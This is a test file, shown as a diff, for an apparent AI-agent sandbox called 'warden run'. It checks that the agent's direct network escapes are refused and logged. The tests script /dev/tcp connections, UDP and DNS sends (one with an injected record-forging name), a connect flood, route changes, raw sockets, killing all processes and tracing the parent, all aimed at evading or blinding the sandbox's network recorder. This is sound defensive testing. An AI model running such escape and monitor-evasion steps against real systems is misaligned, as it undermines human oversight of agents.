@@ -1,0 +1,305 @@
+// `warden run` the attacker's way, on the network: a program no hook sees (here a shell script run as
+// the agent, the worst case) tries to get out directly: TCP to a public address, to the host's
+// loopback port, to IPv6, a UDP datagram, DNS, a loop of a thousand connects, and to blind the
+// recorder (kill it, trace it, re-add a route, open its own raw socket). Every attempt must be
+// refused, reach no one, and be recorded (`egress` `direct`) under the session, bounded.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn, spawnSync } from 'node:child_process';
+import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import {
+  auditRecords,
+  baseEnv,
+  BIN,
+  listener,
+  makeWork,
+  sandboxSkip,
+  sessionOf,
+  wardenRun,
+  type Ran,
+  type Work,
+} from '../helpers/sandbox.ts';
+import { buildRelay } from '../../src/sandbox/relay-build.ts';
+import { RECORDER_CAPS, attemptRecord } from '../../src/sandbox/netrec.ts';
+import { fromStored } from '../../src/audit/record.ts';
+
+/** Why direct attempts cannot be recorded here (a loud skip), or false. */
+function netrecSkip(): string | false {
+  const s = sandboxSkip();
+  if (s) return s;
+  if (!buildRelay()) return 'SKIPPED LOUDLY: no C compiler: the relay (and its network recorder) cannot be built';
+  const caps = RECORDER_CAPS.flatMap((c) => ['--cap-add', c]);
+  const p = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-all', '--cap-drop', 'ALL', ...caps, '--', 'true']);
+  if (p.status !== 0) return `SKIPPED LOUDLY: bubblewrap will not give ${RECORDER_CAPS.join(', ')}: ${p.stderr}`;
+  return false;
+}
+
+const skip = netrecSkip();
+if (skip) process.stderr.write(`test/reliability/sandbox-net.test.ts: ${skip}\n`);
+const bash = (script: string) => ['--agent', 'qwen-code', '--', 'bash', '-c', script];
+
+function direct(w: Work, r: Ran) {
+  const id = sessionOf(r);
+  assert.ok(id, r.err);
+  return auditRecords(w, ['--session', id!]).filter((x) => x.kind === 'direct');
+}
+
+const key = (x: Record<string, any>) => `${x.data.protocol} ${x.data.address} ${x.data.port}`;
+
+test(
+  'bash /dev/tcp to a public IP, to the host loopback port and Node to an IPv6 address, and a Python UDP datagram, from inside warden run: each refused at once, nothing reaches the host listener, each recorded as egress/direct under the session',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const l = await listener();
+    try {
+      const node = `${process.execPath} -e "require('net').connect(443,'2001:db8::7').on('error',e=>console.log('v6',e.code))"`;
+      const py = `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.9', 4444))"`;
+      const t0 = Date.now();
+      const r = await wardenRun(
+        w,
+        bash(
+          `s=$(date +%s%N); echo hi > /dev/tcp/203.0.113.5/8443; echo "a=$? $(( ($(date +%s%N)-s)/1000000 ))"; ` +
+            `s=$(date +%s%N); echo hi > /dev/tcp/127.0.0.1/${l.port}; echo "b=$? $(( ($(date +%s%N)-s)/1000000 ))"; ` +
+            `${node}; ${py}; echo py=$?`,
+        ),
+      );
+      assert.equal(r.code, 0, r.err);
+      const ms = [...r.out.matchAll(/[ab]=1 (\d+)/g)].map((m) => Number(m[1]));
+      assert.equal(ms.length, 2, r.out);
+      assert.ok(
+        ms.every((x) => x < 1000),
+        `a refusal took ${ms} ms`,
+      );
+      assert.match(r.out, /v6 ECONNREFUSED/);
+      assert.equal(l.received(), '', 'something reached the host listener');
+      const recs = direct(w, r);
+      const keys = recs.map(key);
+      for (const k of [
+        'tcp 203.0.113.5 8443',
+        `tcp 127.0.0.1 ${l.port}`,
+        'tcp 2001:db8::7 443',
+        'udp 198.51.100.9 4444',
+      ])
+        assert.ok(keys.includes(k), `${k} not recorded: ${keys}`);
+      for (const x of recs) {
+        assert.equal(x.source, 'egress');
+        assert.equal(x.decision, 'deny');
+        assert.match(x.data.reasons[0], /bypassed Warden's proxy and was refused/);
+        assert.doesNotThrow(() => fromStored(x as Parameters<typeof fromStored>[0]));
+      }
+      assert.match(r.err, /\d+ direct attempt\(s\) refused/);
+      process.stderr.write(`direct refusals took ${ms.join(', ')} ms; session ${Date.now() - t0} ms\n`);
+    } finally {
+      l.close();
+    }
+  },
+);
+
+test(
+  'getent hosts example.com, a hand-made DNS query and a malformed one over UDP: each fails fast, nothing resolves, each is recorded with the queried name (quotes and control bytes escaped, no forged record)',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    // A query whose name holds a quote, a backslash and a newline, then a label that runs off the end.
+    const py = [
+      'import socket',
+      'u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+      "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'",
+      'evil = b\'x"},{"proto":"tcp\\\\\\n\'',
+      "u.sendto(q + bytes([len(evil)]) + evil + b'\\x03com\\x00\\x00\\x01\\x00\\x01', ('192.0.2.53', 53))",
+      "u.sendto(q + b'\\x3fshort', ('192.0.2.53', 53))",
+    ].join('\n');
+    writeFileSync(join(w.proj, 'q.py'), py);
+    const r = await wardenRun(
+      w,
+      bash(`s=$(date +%s%N); getent hosts example.com; echo "g=$? $(( ($(date +%s%N)-s)/1000000 ))"; python3 q.py`),
+    );
+    assert.equal(r.code, 0, r.err);
+    const g = /g=(\d+) (\d+)/.exec(r.out);
+    assert.ok(g && g[1] !== '0', `getent resolved something: ${r.out}`);
+    assert.ok(Number(g![2]) < 3000, `getent took ${g![2]} ms`);
+    const recs = direct(w, r);
+    const dns = recs.filter((x) => x.data.port === 53);
+    assert.ok(
+      dns.some((x) => x.data.name === 'example.com' && x.data.checks.includes('egress.direct-dns')),
+      JSON.stringify(dns),
+    );
+    const evil = dns.find((x) => x.data.address === '192.0.2.53' && x.data.name?.startsWith('x'));
+    assert.ok(evil, JSON.stringify(dns));
+    assert.ok(!/["\n]/.test(evil.data.name), `unescaped bytes in ${evil.data.name}`);
+    assert.match(evil.data.name, /x\\x22/);
+    assert.ok(
+      dns.some((x) => x.data.address === '192.0.2.53' && x.data.name === undefined),
+      'the malformed query',
+    );
+    assert.ok(!recs.some((x) => x.data.protocol === 'tcp'), 'a forged tcp record');
+    process.stderr.write(`getent hosts failed in ${g![2]} ms\n`);
+  },
+);
+
+test(
+  '1,000 connects in a tight loop from inside: all refused, recorded in a bounded number of records whose counts add up to 1,000, and the loop is not slowed',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const loop = [
+      'import socket, time',
+      't = time.time()',
+      'for i in range(1000):',
+      '    s = socket.socket()',
+      '    try: s.connect(("192.0.2.80", 80))',
+      '    except ConnectionRefusedError: pass',
+      '    s.close()',
+      'print("loop-ms", round((time.time() - t) * 1000))',
+    ].join('\n');
+    writeFileSync(join(w.proj, 'loop.py'), loop);
+    const r = await wardenRun(w, bash('python3 loop.py'));
+    assert.equal(r.code, 0, r.err);
+    const ms = Number(/loop-ms (\d+)/.exec(r.out)?.[1]);
+    const recs = direct(w, r).filter((x) => x.data.address === '192.0.2.80');
+    const total = recs.reduce((n, x) => n + x.data.count, 0);
+    assert.equal(total, 1000);
+    assert.ok(recs.length <= 5, `${recs.length} records for one destination`);
+    assert.ok(ms < 5000, `the loop took ${ms} ms`);
+    process.stderr.write(`1,000 refused connects: ${ms} ms, ${recs.length} record(s)\n`);
+  },
+);
+
+test(
+  'the agent holds no capability (CapEff, CapPrm, CapBnd, CapAmb all zero): re-adding a route, opening a raw or a packet socket all fail with EPERM',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const py = [
+      'import socket',
+      'for fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP), (socket.AF_PACKET, socket.SOCK_RAW, 3)]:',
+      '    try: socket.socket(fam, typ, proto); print("opened")',
+      '    except PermissionError: print("raw EPERM")',
+    ].join('\n');
+    writeFileSync(join(w.proj, 'raw.py'), py);
+    const r = await wardenRun(
+      w,
+      bash(
+        'grep -E "^Cap(Eff|Prm|Bnd|Amb)" /proc/self/status; ' +
+          'ip route add 0.0.0.0/0 dev lo 2>&1; ip route del local 0.0.0.0/0 dev lo table local 2>&1; python3 raw.py',
+      ),
+    );
+    assert.equal(r.code, 0, r.err);
+    for (const c of ['CapEff', 'CapPrm', 'CapBnd', 'CapAmb'])
+      assert.match(r.out, new RegExp(`${c}:\\s+0000000000000000`), r.out);
+    assert.equal((r.out.match(/Operation not permitted/g) ?? []).length, 2, r.out);
+    assert.equal((r.out.match(/raw EPERM/g) ?? []).length, 2, r.out);
+    assert.ok(!r.out.includes('opened'));
+  },
+);
+
+test(
+  'the recorder is out of the agent’s reach: not among the processes it can see, its socket gone, everything it can kill killed and its parent traced, a later connect is still recorded',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const r = await wardenRun(
+      w,
+      bash(
+        'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null | grep -q -- "--recor[d]" && echo FOUND $p; done; ' +
+          `${process.execPath} -e "require('net').connect('/run/warden/netrec.sock').on('error',e=>console.log('sock',e.code))"; ` +
+          'for p in $(ls /proc | grep -E "^[0-9]+$"); do [ $p != 1 ] && [ $p != $$ ] && [ $p != $PPID ] && kill -9 $p 2>/dev/null; done; ' +
+          'timeout 2 strace -p $PPID -o /dev/null 2>&1 | head -1; ' +
+          'echo > /dev/tcp/192.0.2.99/9; echo done',
+      ),
+    );
+    assert.equal(r.code, 0, r.err);
+    assert.ok(!r.out.includes('FOUND'), r.out);
+    assert.match(r.out, /sock ENOENT/);
+    assert.match(r.out, /done/);
+    assert.ok(
+      direct(w, r).some((x) => key(x) === 'tcp 192.0.2.99 9'),
+      'the connect after the attack was not recorded',
+    );
+  },
+);
+
+/** The recorder started by the `warden run` with this pid (its child, `relay --record …`). */
+function recorderOf(pid: number): number | undefined {
+  for (const p of readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
+    try {
+      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
+      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
+      if (ppid === pid && readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('--record')) return Number(p);
+    } catch {
+      /* gone */
+    }
+  }
+  return undefined;
+}
+
+test(
+  'the recorder killed from outside mid-session: the session is ended with 124, the audit says why, and the agent does not run on',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const c = spawn(process.execPath, [BIN, 'run', ...bash('sleep 8; touch after-end')], {
+      cwd: w.proj,
+      env: baseEnv(w),
+    });
+    let err = '';
+    c.stderr.on('data', (d) => (err += d));
+    const closed = new Promise<number | null>((res) => c.on('close', res));
+    let rec: number | undefined;
+    for (let i = 0; i < 100 && !rec; i++) {
+      await new Promise((res) => setTimeout(res, 50));
+      rec = recorderOf(c.pid!);
+    }
+    assert.ok(rec, 'no recorder found');
+    await new Promise((res) => setTimeout(res, 500)); // the hand-out done, the agent running
+    process.kill(rec!, 'SIGKILL');
+    const code = await closed;
+    assert.equal(code, 124, err);
+    assert.match(err, /network recorder stopped/);
+    assert.ok(!existsSync(join(w.proj, 'after-end')), 'the agent ran on');
+    const id = /session: (run-\S+)/.exec(err)?.[1];
+    const ended = auditRecords(w, ['--session', id!]).find((x) => x.kind === 'session-ended');
+    assert.match(ended?.data.reasons[0], /network recorder stopped .* fails closed/);
+  },
+);
+
+test(
+  'a bubblewrap that refuses the capabilities: the session still runs, direct attempts still refused, and stderr and the session-start record say they are NOT recorded',
+  { skip, timeout: 60_000 },
+  async () => {
+    const w = makeWork();
+    const fake = join(w.dir, 'bwrap-no-caps');
+    writeFileSync(
+      fake,
+      '#!/bin/sh\ncase "$*" in *--cap-add*) echo "bwrap: capabilities refused here" >&2; exit 1;; esac\nexec bwrap "$@"\n',
+      { mode: 0o755 },
+    );
+    const r = await wardenRun(w, bash('echo > /dev/tcp/192.0.2.7/443; echo rc=$?'), { WARDEN_BWRAP: fake });
+    assert.equal(r.code, 0, r.err);
+    assert.match(r.out, /rc=1/);
+    assert.match(r.err, /refused but NOT recorded: bubblewrap would not give/);
+    assert.match(r.err, /direct attempts not recorded/);
+    const recs = auditRecords(w, ['--session', sessionOf(r)!]);
+    const start = recs.find((x) => x.kind === 'session-start');
+    assert.equal(start?.data.netRecorder.recording, false);
+    assert.ok(!recs.some((x) => x.kind === 'direct'));
+  },
+);
+
+test('a recorder line becomes a typed egress/direct record; more than 32 destinations a second are counted together', () => {
+  const dns = attemptRecord({ proto: 'udp', addr: '10.0.0.53', port: 53, count: 3, name: 'leak.example' });
+  assert.deepEqual(fromStored(dns).data, {
+    protocol: 'udp',
+    address: '10.0.0.53',
+    port: 53,
+    count: 3,
+    name: 'leak.example',
+  });
+  assert.match((dns.data.reasons as string[])[0], /DNS query for leak\.example to 10\.0\.0\.53:53 \(3 attempts/);
+  const lo = attemptRecord({ proto: 'tcp', addr: '127.0.0.1', port: 5432, count: 1 });
+  assert.match((lo.data.reasons as string[])[0], /host's port is not reachable/);
+  const others = attemptRecord({ others: 500 });
+  assert.equal(fromStored(others).data?.count, 500);
+});
